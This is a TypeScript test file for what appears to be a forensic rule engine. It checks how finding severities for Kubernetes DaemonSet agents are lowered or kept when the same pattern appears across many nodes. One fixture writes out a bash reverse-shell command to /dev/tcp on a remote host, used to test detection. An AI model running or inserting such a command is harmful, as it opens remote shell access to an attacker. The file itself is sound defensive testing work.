import { expect } from 'chai';
import type { Docket } from '../../src/findings/docket.ts';
import type { Finding } from '../../src/findings/finding.ts';
import { judge } from '../../src/findings/judge.ts';
import { rules } from '../../src/findings/rules.ts';
import {
  bookOf,
  cleanNode,
  containerMountTable,
  nodeMountTable,
  podList,
  podObject,
  processItems,
  type ProcessFacts,
  web,
} from './traces-lab.ts';

interface Agent {
  readonly owner?: object;
  readonly image?: string;
  readonly spec?: object;
  readonly mounts?: string;
  readonly process?: ProcessFacts;
}

const daemonSet = { kind: 'DaemonSet', name: 'agent', uid: 'd1', controller: true };
const socket = '61 50 0:5 /containerd/containerd.sock /sock rw - tmpfs tmpfs rw';

/** A node with one pod of an agent, named and pinned as the controller of DaemonSets does. */
function node(number: number, agent: Agent = {}): Docket {
  const { owner = daemonSet, image = 'sha256:11', spec = {}, mounts = socket } = agent;
  const which = {
    id: String(number).repeat(64),
    pod: `${String(number).repeat(8)}-0000-0000-0000-000000000000`,
  };
  const token = `kube-api-access-${String(number).repeat(5)}`;
  const object = podObject(which, {
    name: `agent-${String(number).repeat(5)}`,
    namespace: 'tools',
    spec: {
      nodeName: `node-${number}`,
      affinity: { nodeAffinity: { fields: [`node-${number}`] } },
      volumes: [
        { name: token, projected: {} },
        { name: 'sock', hostPath: { path: '/run/containerd' } },
      ],
      ...spec,
    },
    container: { volumeMounts: [{ name: token, mountPath: '/token' }] },
  }) as { metadata: object; status: { containerStatuses: object[] } };
  const pod = {
    ...object,
    metadata: { ...object.metadata, ownerReferences: [owner] },
    status: { containerStatuses: object.status.containerStatuses.map((one) => ({ ...one, imageID: image })) },
  };
  const docket = bookOf({
    ...cleanNode(),
    ...processItems(1, { exe: '/usr/lib/systemd/systemd', mounts: nodeMountTable }),
    ...processItems(20 + number, {
      in: which,
      mounts: containerMountTable(mounts),
      namespaces: { mnt: 300, pid: 301, net: 302, ipc: 303 },
      ...agent.process,
    }),
    'live_response/kubernetes/pods.json': podList(podObject(web), pod),
  }).docket();
  return { ...docket, traces: { ...docket.traces, node: `node-${number}` } };
}

function found(dockets: readonly Docket[], rule: string): string[] {
  return judge(rules, dockets, 'c')
    .findings.filter((one) => one.rule === rule)
    .map(told)
    .sort();
}

function told({ severity, subject, common }: Finding): string {
  const of = common === undefined ? '' : ` on ${common.nodes} of ${common.of}, ${common.otherwise} otherwise`;
  return `${subject.node} ${severity}${of}`;
}

const many = (count: number, agent?: Agent): Docket[] =>
  Array.from({ length: count }, (_, i) => node(i + 1, agent));
const unasked = { volumes: [] };

describe('prevalence over nodes', () => {
  it('takes one step from what all nodes have of one DaemonSet, and says so', () => {
    const { findings } = judge(rules, many(5), 'c');
    const one = findings.find(({ rule }) => rule === 'runtime-socket');
    const alone = judge(rules, many(1), 'c').findings.find(({ rule }) => rule === 'runtime-socket');
    expect(alone?.severity).to.equal('medium');
    expect(one?.severity).to.equal('low');
    expect(one?.common).to.deep.equal({ nodes: 5, of: 5, otherwise: 'medium' });
    expect(one?.evidence.map(({ excerpt }) => excerpt)).to.include(
      'the same on node-2: tools/agent-22222 of DaemonSet agent, image sha256:11',
    );
  });

  it('leaves what is critical at high, however many nodes an intruder runs his DaemonSet on', () => {
    expect(
      new Set(found(many(9, { spec: unasked }), 'runtime-socket').map((line) => line.slice(7))),
    ).to.deep.equal(new Set(['high on 9 of 9, critical otherwise']));
  });

  it('needs three nodes, and three quarters of those that were looked at', () => {
    expect(found(many(2), 'runtime-socket')).to.deep.equal(['node-1 medium', 'node-2 medium']);
    const without = [8, 9].map((number) => node(number, { mounts: '' }));
    expect(found([...many(3), ...without.slice(0, 1)], 'runtime-socket')[0]).to.equal(
      'node-1 low on 3 of 4, medium otherwise',
    );
    expect(found([...many(3), ...without], 'runtime-socket')[0]).to.equal('node-1 medium');
  });

  it('counts only nodes on which the rule was judged', () => {
    const blind = { ...node(9), has: (need: string) => need !== 'first process' };
    expect(found([...many(3), { ...blind }, { ...blind }], 'runtime-socket')[0]).to.equal(
      'node-1 low on 3 of 3, medium otherwise',
    );
  });

  for (const [what, odd] of [
    ['another image', { image: 'sha256:22' }],
    ['another specification', { spec: { hostPID: true } }],
    ['another owner of the same name', { owner: { ...daemonSet, uid: 'd2' } }],
    ['no DaemonSet', { owner: { ...daemonSet, kind: 'ReplicaSet' } }],
    ['an owner that does not control it', { owner: { ...daemonSet, controller: false } }],
  ] as const)
    it(`weighs in full a pod with ${what} among those of a DaemonSet`, () => {
      expect(found([...many(5), node(6, odd)], 'runtime-socket').at(-1)).to.equal('node-6 medium');
    });

  it('weighs in full an image that is not known by a digest', () => {
    expect(found(many(4, { image: undefined as unknown as string }), 'runtime-socket')).to.have.length(4);
    expect(found(many(4, { image: 7 as unknown as string }), 'runtime-socket')[0]).to.equal('node-1 medium');
  });

  it('weighs in full what an agent does on one node only', () => {
    const broken = node(6, { mounts: `${socket}\n62 50 8:1 /etc /etc2 rw - ext4 /dev/sda1 rw` });
    const all = [...many(5), broken];
    expect(found(all, 'writable-node-path')).to.deep.equal([
      ...[1, 2, 3, 4, 5].map((one) => `node-${one} info on 6 of 6, low otherwise`),
      'node-6 critical',
      'node-6 info on 6 of 6, low otherwise',
    ]);
    expect(found(all, 'runtime-socket').at(-1)).to.equal('node-6 low on 6 of 6, medium otherwise');
  });

  it('takes nothing from what no agent does by design', () => {
    const process = { args: ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.66/4444 0>&1'] };
    expect(
      new Set(found(many(5, { process }), 'shell-command-line').map((line) => line.slice(7))),
    ).to.deep.equal(new Set(['high']));
  });
});
